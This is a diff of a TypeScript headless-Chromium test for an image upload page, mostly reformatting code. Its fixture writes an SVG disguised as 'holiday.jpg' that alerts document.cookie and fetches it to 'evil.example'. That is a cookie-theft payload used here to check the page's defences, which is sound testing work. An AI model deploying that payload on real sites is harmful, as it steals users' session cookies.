@@ -15,7 +15,15 @@ import { wholeNumberAbove0 } from "../../cli/arguments";
 import { cliProgram, EXIT_FAILED, EXIT_OK, exitWith, runCli } from "../../cli/exit-codes";
 import { REPO_ROOT } from "../../cli/repo-root";
 
-const FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"];
+const FLAGS = [
+  "--no-sandbox",
+  "--disable-gpu",
+  "--disable-quic",
+  "--no-first-run",
+  "--disable-background-networking",
+  "--disable-component-update",
+  "--disable-sync",
+];
 let TIMEOUT_MS = 120_000;
 
 async function photos(dir: string): Promise<{ good: string[]; hostile: string }> {
@@ -29,16 +37,23 @@ async function photos(dir: string): Promise<{ good: string[]; hostile: string }>
   await gradient(640, 1000, 200).webp().toFile(good[2]);
   // A script dressed as a photo: the browser calls it image/jpeg by its name; the bytes are SVG.
   const hostile = join(dir, "holiday.jpg");
-  writeFileSync(hostile, '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>fetch("//evil.example/"+document.cookie)</script></svg>');
+  writeFileSync(
+    hostile,
+    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>fetch("//evil.example/"+document.cookie)</script></svg>',
+  );
   return { good, hostile };
 }
 
 function startPipeline(): Promise<{ child: ChildProcess; url: string }> {
   return new Promise((resolve, reject) => {
-    const child = spawn(process.execPath, [join(REPO_ROOT, "node_modules", "tsx", "dist", "cli.mjs"), join(REPO_ROOT, "local", "start.ts"), "--no-samples", "--no-canary", "--keep-serving"], {
-      cwd: REPO_ROOT,
-      stdio: ["ignore", "ignore", "pipe"],
-    });
+    const child = spawn(
+      process.execPath,
+      [join(REPO_ROOT, "node_modules", "tsx", "dist", "cli.mjs"), join(REPO_ROOT, "local", "start.ts"), "--no-samples", "--no-canary", "--keep-serving"],
+      {
+        cwd: REPO_ROOT,
+        stdio: ["ignore", "ignore", "pipe"],
+      },
+    );
     let seen = "";
     const timer = setTimeout(() => reject(new Error(`npm start printed no page URL in time:\n${seen}`)), TIMEOUT_MS);
     child.stderr?.on("data", (chunk: Buffer) => {
@@ -127,7 +142,10 @@ async function pageTest(chromiumPath: string): Promise<number> {
   }
 }
 
-const program = cliProgram("npm run test:page --", "Drive the upload page of npm start in headless Chromium: three photos and one hostile file, checked as a person sees them")
+const program = cliProgram(
+  "npm run test:page --",
+  "Drive the upload page of npm start in headless Chromium: three photos and one hostile file, checked as a person sees them",
+)
   .addOption(new Option("--chromium <path>", "the Chromium (or Chrome) binary").default(process.env.CHROMIUM_PATH ?? "/usr/bin/chromium"))
   .addOption(new Option("--timeout <seconds>", "how long to wait for npm start and for every image to settle").argParser(wholeNumberAbove0).default(120))
   .action(async (opts: { chromium: string; timeout: number }) => {
